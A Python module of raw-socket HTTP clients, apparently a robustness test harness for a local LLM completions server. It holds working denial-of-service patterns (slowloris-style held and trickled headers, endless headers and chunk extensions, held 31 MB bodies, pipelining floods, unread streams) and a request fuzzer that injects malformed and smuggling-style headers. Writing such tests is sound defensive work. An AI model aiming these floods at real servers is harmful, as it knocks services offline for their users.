"""Clients that misuse connections and headers, on raw sockets.

Each attack takes a port and returns how many of the bytes that it sent a server may hold.
"""

from __future__ import annotations

import random
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress

POST = b"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
GET = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n"
_PATIENCE_S = 30.0
_HELD_S = 3.0
_FLOOD_BYTES = 60_000_000


@contextmanager
def connected(port: int) -> Iterator[socket.socket]:
    """A connection whose every wait has a limit."""
    with socket.create_connection(("127.0.0.1", port), _PATIENCE_S) as connection:
        yield connection


def answer(connection: socket.socket, timeout_s: float = _PATIENCE_S) -> bytes:
    """Return all that comes until the server closes, or nothing more does for `timeout_s`."""
    received = b""
    connection.settimeout(timeout_s)
    with suppress(OSError):
        while data := connection.recv(65536):
            received += data
    return received


def flood(port: int, head: bytes, piece: bytes, num_bytes: int = _FLOOD_BYTES) -> bytes:
    """Send `head` and then `piece` again and again, until `num_bytes` are sent or the server closes."""
    with connected(port) as connection:
        with suppress(OSError):
            connection.sendall(head)
            for _ in range(num_bytes // len(piece)):
                connection.sendall(piece)
        return answer(connection, 5)


def endless_header(port: int) -> int:
    """One header whose value has no end."""
    flood(port, GET + b"X-A: ", b"a" * 65536)
    return 0


def endless_headers(port: int) -> int:
    """Headers without end, each of them short."""
    flood(port, GET, b"A: b\r\n" * 10_000)
    return 0


def endless_target(port: int) -> int:
    """A request line without end."""
    flood(port, b"GET /", b"a" * 65536)
    return 0


def endless_trailer(port: int) -> int:
    """Fields after a body in chunks, without end."""
    flood(port, POST + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n", b"A: b\r\n" * 10_000)
    return 0


def endless_chunk_extension(port: int) -> int:
    """The size of a chunk, and an extension to it without end."""
    flood(port, POST + b"Transfer-Encoding: chunked\r\n\r\n2;a=", b"a" * 65536)
    return 0


def tiny_chunks(port: int) -> int:
    """A body in chunks of one byte each."""
    flood(port, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n" * 10_000)
    return 8 * 2**20


def unasked_body(port: int) -> int:
    """A body for an endpoint that reads none."""
    flood(port, GET + b"Content-Length: 300000000\r\n\r\n", b"a" * 65536)
    return 0


def blank_lines(port: int) -> int:
    """What may precede a request, without end."""
    flood(port, b"", b"\r\n" * 30_000)
    return 0


def pipelined(port: int) -> int:
    """Many requests ahead of their answers, which are not read."""
    flood(port, b"", (GET + b"\r\n") * 1000)
    return 0


def half_headers(port: int) -> int:
    """200 connections that each hold half a header."""
    hold(port, [POST + b"X-Half: "] * 200)
    return 0


def trickled_headers(port: int) -> int:
    """50 connections that send their headers a byte at a time."""
    with ExitStack() as stack:
        connections = [stack.enter_context(connected(port)) for _ in range(50)]
        for connection in connections:
            connection.sendall(GET + b"X-A: ")
        end = time.monotonic() + _HELD_S
        while time.monotonic() < end:
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(b"a")
    return 0


def held_bodies(port: int) -> int:
    """20 bodies of 31 MB, each held one byte before its end."""
    size = 31_000_000
    head = POST + b"Content-Length: %d\r\n\r\n" % size
    hold(port, [head + b'{"prompt": "' + b"a" * (size - 13)] * 20)
    return 128 * 2**20


def held_small_bodies(port: int) -> int:
    """50 bodies below the limit of any server, each held one byte before its end."""
    size = 7_000_000
    head = POST + b"Content-Length: %d\r\n\r\n" % size
    hold(port, [head + b"a" * (size - 1)] * 50)
    return 128 * 2**20


def unread_answers(port: int) -> int:
    """128 streams of many log-probabilities that nobody reads, more than the server has places for."""
    body = b'{"prompt": "It is", "max_tokens": 200, "ignore_eos": true, "stream": true, "logprobs": 20}'
    hold(port, [POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body)] * 128)
    return 0


def unread_logprobs(port: int) -> int:
    """A few streams of many log-probabilities that nobody reads; the server has a place left."""
    body = b'{"prompt": "It is", "max_tokens": 200, "ignore_eos": true, "stream": true, "logprobs": 20}'
    hold(port, [POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body)] * 6)
    return 0


def hold(port: int, beginnings: list[bytes]) -> None:
    """Open a connection for each beginning, send it and wait."""
    with ExitStack() as stack:
        for beginning in beginnings:
            connection = stack.enter_context(connected(port))
            connection.settimeout(5)
            with suppress(OSError):
                connection.sendall(beginning)
        time.sleep(_HELD_S)


def mutations(seed: int, count: int) -> Iterator[bytes]:
    """Requests with bytes changed, removed, doubled, or put in from a list of troublemakers."""
    drawn = random.Random(seed)
    body = b'{"prompt": "It is", "max_tokens": 1}'
    good = [
        GET + b"\r\n",
        POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body),
        POST + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(body), body),
        POST + b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body),
    ]
    bad = [
        b"\0",
        b"\r",
        b"\n",
        b"\r\n",
        b" ",
        b":",
        b"\xff",
        b"%00",
        b"Host: b\r\n",
        b"Content-Length: 3\r\n",
        b"\x1b[2J",
    ]
    bad += [
        b"Content-Length: -1\r\n",
        b"Content-Length: 99999999999999999999\r\n",
        b"Transfer-Encoding: x, chunked\r\n",
    ]
    bad += [
        b"Connection: Upgrade\r\nUpgrade: websocket\r\n",
        b"HTTP/9.9",
        b"ffffffffffffffff\r\n",
        b"CONNECT",
        b"//",
        b"*",
    ]
    for _ in range(count):
        request = bytearray(drawn.choice(good))
        for _ in range(drawn.randint(1, 4)):
            start = drawn.randrange(len(request) + 1)
            end = min(len(request), start + drawn.choice([0, 0, 1, 2, 8]))
            request[start:end] = drawn.choice([*bad, bytes(request[start:end]) * 2, b""])
        yield bytes(request)


ATTACKS: dict[str, Callable[[int], int]] = {
    attack.__name__: attack
    for attack in (
        endless_header,
        endless_headers,
        endless_target,
        endless_trailer,
        endless_chunk_extension,
        tiny_chunks,
        unasked_body,
        blank_lines,
        pipelined,
        half_headers,
        trickled_headers,
        held_bodies,
        held_small_bodies,
        unread_answers,
        unread_logprobs,
    )
}
